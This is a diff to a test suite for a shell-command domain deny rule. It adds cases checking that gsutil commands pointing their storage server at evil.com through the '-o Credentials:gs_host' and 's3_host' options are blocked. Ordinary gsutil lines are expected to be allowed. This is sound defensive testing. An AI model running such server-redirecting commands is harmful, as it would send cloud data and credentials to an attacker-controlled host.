@@ -55,3 +55,17 @@ describe('kustomize localize: its remote target and destination (were allowed)',
     ['Domain(evil.com)', 'kustomize edit add resource git@evil.com:o/r', 'allow'],
   ]);
 });
+
+// cloud-clis.ts read gsutil's `-o` only written apart, and boto names without digits: getopt takes
+// `-oVALUE` and `-mo VALUE`, and `Credentials:s3_host` is the server for s3:// URLs.
+describe('gsutil -o boto servers, attached and s3_host (were allowed)', () => {
+  shellRuleTable('deny', [
+    ['Domain(evil.com)', 'gsutil -oCredentials:gs_host=evil.com ls', 'deny'],
+    ['Domain(evil.com)', 'gsutil -mo Credentials:gs_host=evil.com cp a gs://b/', 'deny'],
+    ['Domain(evil.com)', 'gsutil -o Credentials:s3_host=evil.com ls s3://b', 'deny'],
+    // Precision: a setting that names no server; ordinary lines.
+    ['Domain(evil.com)', 'gsutil -o GSUtil:default_project_id=x ls', 'allow'],
+    ['Domain(evil.com)', 'gsutil -o Boto:proxy_port=8080 ls', 'allow'],
+    ['Domain(evil.com)', 'gsutil -m cp a gs://b/', 'allow'],
+  ]);
+});
